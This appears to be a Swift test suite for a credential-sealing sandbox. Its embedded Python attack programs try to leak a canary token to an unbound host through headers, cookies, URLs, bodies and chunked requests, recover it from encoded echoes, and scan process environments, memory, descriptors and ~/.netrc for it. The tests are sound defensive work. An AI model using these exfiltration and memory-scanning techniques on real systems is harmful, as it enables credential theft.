import Foundation
import SystemPackage
import Testing

/// Attacks on what a caller keeps secret. Each finds the canary unsealed; sealed the canary is in no
/// output, no file, no audit, and nothing that reached a server which was not to have it.
@Suite(.serialized, .timeLimit(.minutes(5))) struct CredentialAttackTests {
  private static let rules = "rules: [{ allow: \"* /**\" }]"

  /// The canary must be nowhere that a run, its caller's terminal, or a reader of the audit sees.
  private static func expectNoCanary(_ world: HostileWorld, _ result: Command.Result) async throws {
    #expect(!HostileWorld.holdsCanary(Data(result.output.utf8)), "\(result.output)")
    #expect(!HostileWorld.holdsCanary(Data(result.error.utf8)), "\(result.error)")
    #expect(!HostileWorld.holdsCanary(Data(try await world.audit().utf8)))
    #expect(try world.filesWithCanary() == [])
    #expect(try world.received("collector").isEmpty)
  }

  // MARK: - Echoes

  private static let echoes =
    AttackText.opening + #"""
      secret = os.environ["TOKEN"]
      for kind in "plain gzip deflate br transfer chunks base64 hex trailer headers coding reason".split():
          heard = ask("api.example.com", "/echo/" + kind,
              f"Authorization: Bearer {secret}\r\nAccept-Encoding: gzip, br\r\nRange: bytes=0-9\r\n")
          seen = [heard]
          joined = b"".join(re.findall(rb"\r\n[0-9a-f]+\r\n(.*?)(?=\r\n[0-9a-f]+\r\n)", heard, re.S))
          seen.append(joined)
          for start in [m.start() for m in re.finditer(b"\x1f\x8b|\x78\x9c", heard)]:
              try:
                  seen.append(zlib.decompressobj(47).decompress(heard[start:]))
              except zlib.error:
                  pass
          for text in re.findall(rb"[A-Za-z0-9+/]{40,}", heard):
              seen.append(base64.b64decode(text[: len(text) // 4 * 4]))
          print(kind, heard[9:12].decode(), b" ".join(seen).decode("latin-1").replace("\n", " "))
      """#

  @Test func `an upstream that gives the value back is redacted`() async throws {
    try await HostileWorld.with { world in
      var control = AttackText.opening
      control += "os.environ['TOKEN'] = '\(HostileWorld.canary)'\n"
      control += Self.echoes.dropFirst(AttackText.opening.count)
      let free = try await world.unsealed(control)
      #expect(free.status == .exited(0), "\(free.error)")
      for kind in ["plain", "gzip", "transfer", "chunks", "base64", "trailer", "headers", "coding"]
      {
        let line = free.output.split(separator: "\n").first { $0.hasPrefix("\(kind) ") } ?? ""
        #expect(line.contains(HostileWorld.canary), "\(kind)")
      }
      try world.forget()

      try await world.store("TOKEN", "--host", "api.example.com")
      let result = try await world.sealed(
        world.entry("api.example.com", "credential: TOKEN, \(Self.rules)"),
        Self.echoes
      )
      #expect(result.status == .exited(0), "\(result.error)")
      // It was used: the one who was to have it got it.
      #expect(try world.received("tls").range(of: Data(HostileWorld.canary.utf8)) != nil)
      #expect(result.output.contains("plain 200") && result.output.contains("[redacted:TOKEN]"))
      try await Self.expectNoCanary(world, result)
    }
  }

  // MARK: - Elsewhere

  @Test func `a placeholder is worth nothing anywhere but where it is bound`() async throws {
    let program =
      AttackText.opening + #"""
        token, key, password = (os.environ.get(n, "CANARY-x") for n in ("TOKEN", "KEY", "PASSWORD"))
        basic = base64.b64encode(f"user:{token}".encode()).decode()
        json = "Content-Type: application/json\r\n"
        form = "Content-Type: application/x-www-form-urlencoded\r\n"
        show("other-host", ask("other.example.com", "/", f"Authorization: Bearer {token}\r\n"))
        show("other-host-basic", ask("other.example.com", "/", f"Authorization: Basic {basic}\r\n"))
        show("other-header", ask("api.example.com", "/", f"X-Note: {token}\r\n"))
        show("cookie", ask("api.example.com", "/", f"Cookie: a={token}\r\n"))
        show("path", ask("api.example.com", f"/issues/{token}"))
        show("query", ask("api.example.com", f"/issues?title={token}"))
        show("issue", ask("api.example.com", "/issues", json, "POST", '{"title":"' + token + '"}'))
        chunks = "".join(f"1\r\n{c}\r\n" for c in token) + "0\r\n\r\n"
        peer = tls("api.example.com")
        peer.sendall(f"POST / HTTP/1.1\r\nHost: api.example.com:{TLS}\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}".encode())
        show("issue-in-pieces", hear(peer))
        show("wrong-field", ask("query.example.com", f"/search?title={key}"))
        show("wrong-path", ask("query.example.com", f"/publish?key={key}"))
        show("semicolon", ask("query.example.com", f"/search?key=1;title={key}"))
        show("wrong-method", ask("query.example.com", f"/search?key={key}", "", "POST", "x"))
        show("wrong-body-field", ask("login.example.com", "/login", json, "POST", '{"title":"' + password + '"}'))
        show("nested-field", ask("login.example.com", "/login", json, "POST", '{"x":{"password":"' + password + '"}}'))
        show("both-fields", ask("login.example.com", "/login", json, "POST",
            '{"password":"' + password + '","title":"' + password + '"}'))
        show("two-types", ask("login.example.com", "/login", form + json, "POST", '{"title":"&password=' + password + '"}'))
        show("wrong-body-path", ask("login.example.com", "/notes", json, "POST", '{"password":"' + password + '"}'))
        """#
    try await HostileWorld.with { world in
      let free = try await world.unsealed(program)
      #expect(free.status == .exited(0), "\(free.error)")
      #expect(free.output.split(separator: "\n").allSatisfy { $0.hasSuffix("HTTP/1.1 200 OK") })
      try world.forget()

      try await world.store("TOKEN", "--host", "api.example.com")
      try await world.store("KEY", "--host", "query.example.com", "--query", "GET:/search:key")
      try await world.store(
        "PASSWORD",
        "--host",
        "login.example.com",
        "--body",
        "POST:/login:password"
      )
      let result = try await world.sealed(
        world.entry("api.example.com", "credential: TOKEN, \(Self.rules)")
          + world.entry("other.example.com", Self.rules)
          + world.entry("query.example.com", "credential: KEY, \(Self.rules)")
          + world.entry("login.example.com", "credential: PASSWORD, \(Self.rules)"),
        program
      )
      #expect(result.status == .exited(0), "\(result.error)")
      let lines = result.output.split(separator: "\n")
      #expect(lines.count == 17)
      for line in lines { #expect(line.hasSuffix("HTTP/1.1 403 Forbidden"), "\(line)") }
      #expect(!HostileWorld.holdsCanary(try world.received("tls")))
      let audit = try await world.audit()
      #expect(audit.contains("built-in: credentials go where they are bound"))
      try await Self.expectNoCanary(world, result)
    }
  }

  // MARK: - Scans

  @Test func `whatever is looked through inside, the value is not there`() async throws {
    let program =
      AttackText.opening + #"""
        # Written backwards, so that this program is not found itself.
        needle = bytes.fromhex("\#(HostileWorld.backwards)")[::-1]
        if UNSEALED:
            import threading
            held = needle + b""
            open(os.path.expanduser("~/.netrc"), "wb").write(needle)
        else:
            ask("api.example.com", "/", f"Authorization: Bearer {os.environ['TOKEN']}\r\n")
        found = []
        def look(path, limit=1 << 24):
            try:
                if "/fd/" in path and not os.path.isfile(path):
                    return
                with open(path, "rb") as file:
                    if needle in file.read(limit):
                        found.append(path)
            except (OSError, ValueError, OverflowError):
                pass
        own = str(os.getpid())
        for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/fd/*", "/proc/*/task/*/environ",
                        "/proc/keys", "/run/*", "/dev/shm/*", "/tmp/*", "/etc/*", os.path.expanduser("~/.*")):
            for path in glob.glob(pattern):
                look(path, 1 << 20)
        for process in os.listdir("/proc"):
            if not process.isdigit() or process == own:
                continue
            try:
                maps = open(f"/proc/{process}/maps").read().splitlines()
                memory = open(f"/proc/{process}/mem", "rb", 0)
            except OSError:
                continue
            for line in maps:
                span, rights = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if "r" not in rights or end - start > 1 << 26 or line.endswith(("[vsyscall]", "[vvar]")):
                    continue
                try:
                    memory.seek(start)
                    if needle in memory.read(end - start):
                        found.append(f"/proc/{process}/mem")
                except (OSError, ValueError):
                    pass
            if UNSEALED:
                break
        for number in range(3, 256):
            try:
                os.fstat(number)
                if needle in os.pread(number, 1 << 20, 0):
                    found.append(f"descriptor {number}")
            except OSError:
                pass
        print("found", sorted(set(found)))
        """#
    try await HostileWorld.with { world in
      let free = try await world.unsealed(program)
      #expect(free.output.contains(".netrc"), "\(free.output) \(free.error)")

      try await world.store("TOKEN", "--host", "api.example.com")
      let result = try await world.sealed(
        world.entry("api.example.com", "credential: TOKEN, \(Self.rules)"),
        program
      )
      #expect(result.output == "found []\n", "\(result.output) \(result.error)")
      #expect(try world.received("tls").range(of: Data(HostileWorld.canary.utf8)) != nil)
      try await Self.expectNoCanary(world, result)
    }
  }
}
